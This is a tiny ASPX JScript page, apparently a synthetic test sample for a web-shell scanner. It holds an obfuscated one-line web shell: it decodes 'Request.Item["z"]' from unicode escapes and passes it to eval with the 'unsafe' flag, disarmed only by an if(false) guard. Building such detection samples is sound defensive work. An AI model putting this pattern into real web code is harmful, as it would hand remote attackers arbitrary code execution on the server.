<%@ Page Language="Jscript" %>
<%-- synthetic test sample for breachscan: JScript eval with the "unsafe" flag, request name in escapes. Inert: if(false). --%>
<%
var p = "\u0052\u0065\u0071\u0075\u0065\u0073\u0074.Item[\"z\"]";
if (false) eval(p, "unsafe");
%>
